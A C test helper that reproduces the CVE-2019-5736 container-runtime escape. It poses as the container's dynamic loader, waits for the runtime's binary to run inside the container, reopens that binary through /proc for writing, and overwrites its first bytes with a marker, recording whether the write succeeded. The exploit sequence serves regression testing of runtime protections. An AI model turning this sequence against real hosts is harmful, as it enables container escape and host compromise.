/* The CVE-2019-5736 sequence, from inside a container (test_exe_seal.py).
 *
 * Built static and installed in the container's rootfs as the ELF
 * interpreter that the runtime's binary names (/lib64/ld-linux-x86-64.so.2):
 * a container process that executes /proc/self/exe while that is the
 * runtime's binary gets the runtime's binary as its /proc/PID/exe, and runs
 * this program instead of the dynamic loader. Then, as the published exploit
 * does:
 *
 *   A (this process): starts B (this file run as a program of its own: a
 *     mere fork would share A's executable and keep it busy), waits until
 *     B holds A's executable, and stops running it: `init` mode replaces
 *     itself with /bin/sleep (it may be pid 1), `exec` mode exits;
 *   B: opens /proc/<A>/exe with O_PATH, reports what it names, then
 *     reopens it for writing through /proc/self/fd/N, retrying while the
 *     file is busy (ETXTBSY: some process still runs it), and writes over
 *     its first bytes.
 *
 * B writes OUT/opened (the target of the link) and OUT/result ("written",
 * or the call and the error that refused it).
 * argv: /proc/self/exe MODE OUT SELF, SELF being where this file is.
 *
 * `watch OUT` (the container's init, in a PID namespace of its own: it sees
 * the container's processes alone) is the form that needs no dynamic
 * loader, so that a static runtime faces it too: it waits for a process
 * whose executable is neither its own nor busybox (the runtime, executing
 * a `#!/proc/self/exe` entry the test runs with `exec`, as the published
 * exploit's /bin/sh does), then goes on as B does with that process. */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

static const char *out;

static void report(const char *name, const char *text)
{
    char tmp[512], path[512];
    snprintf(tmp, sizeof(tmp), "%s/.%s", out, name);
    snprintf(path, sizeof(path), "%s/%s", out, name);
    int fd = open(tmp, O_WRONLY | O_CREAT | O_TRUNC, 0644);
    if (fd < 0)
        return;
    (void)!write(fd, text, strlen(text));
    close(fd);
    rename(tmp, path);
}

static void attacker(pid_t target, int ready)
{
    char path[64], link[256], msg[320];
    snprintf(path, sizeof(path), "/proc/%d/exe", (int)target);
    int fd = open(path, O_PATH | O_CLOEXEC);
    if (fd < 0) {
        snprintf(msg, sizeof(msg), "open O_PATH %s: %s", path, strerror(errno));
        report("result", msg);
        _exit(1);
    }
    snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
    ssize_t n = readlink(path, link, sizeof(link) - 1);
    link[n > 0 ? n : 0] = '\0';
    report("opened", link);
    (void)!write(ready, "o", 1);
    close(ready);
    struct timespec t0, now, pause = {0, 10 * 1000 * 1000};
    clock_gettime(CLOCK_MONOTONIC, &t0);
    for (;;) {
        int w = open(path, O_WRONLY | O_CLOEXEC);
        if (w >= 0) {
            ssize_t k = pwrite(w, "PWNED!", 6, 0);
            snprintf(msg, sizeof(msg), k == 6 ? "written" : "write: %s", strerror(errno));
            report("result", msg);
            _exit(0);
        }
        clock_gettime(CLOCK_MONOTONIC, &now);
        if (errno != ETXTBSY || now.tv_sec - t0.tv_sec > 30) {
            snprintf(msg, sizeof(msg), "open for writing: %s", strerror(errno));
            report("result", msg);
            _exit(0);
        }
        nanosleep(&pause, NULL);
    }
}

static void watch(void)
{
    char me[256], link[256], path[64];
    ssize_t n = readlink("/proc/self/exe", me, sizeof(me) - 1);
    me[n > 0 ? n : 0] = '\0';
    for (;;) {
        DIR *d = opendir("/proc");
        if (!d)
            _exit(1);
        struct dirent *e;
        while ((e = readdir(d))) {
            int pid = atoi(e->d_name);
            if (pid <= 0 || pid == (int)getpid())
                continue;
            snprintf(path, sizeof(path), "/proc/%d/exe", pid);
            n = readlink(path, link, sizeof(link) - 1);
            if (n <= 0)
                continue;
            link[n] = '\0';
            if (strcmp(link, me) == 0 || strcmp(link, "/bin/busybox") == 0)
                continue;
            int p[2];
            if (pipe(p) < 0)
                _exit(1);
            closedir(d);
            attacker(pid, p[1]); /* does not return */
        }
        closedir(d);
    }
}

int main(int argc, char **argv)
{
    if (argc == 3 && strcmp(argv[1], "watch") == 0) {
        out = argv[2];
        watch();
    }
    if (argc == 5 && strcmp(argv[0], "attack") == 0) {
        out = argv[3];
        attacker(atoi(argv[1]), atoi(argv[2]));
    }
    if (argc < 4)
        return 2;
    out = argv[2];
    int p[2];
    if (pipe(p) < 0)
        return 1;
    char self[16], ready[16];
    snprintf(self, sizeof(self), "%d", (int)getpid());
    snprintf(ready, sizeof(ready), "%d", p[1]);
    pid_t b = fork();
    if (b < 0)
        return 1;
    if (b == 0) {
        close(p[0]);
        char *b_argv[] = {"attack", self, ready, (char *)out, "", NULL};
        execv(argv[3], b_argv);
        _exit(127);
    }
    close(p[1]);
    char c;
    (void)!read(p[0], &c, 1);
    close(p[0]);
    if (strcmp(argv[1], "init") == 0) {
        char *sleep_argv[] = {"sleep", "1000", NULL};
        execv("/bin/sleep", sleep_argv);
    }
    return 0;
}
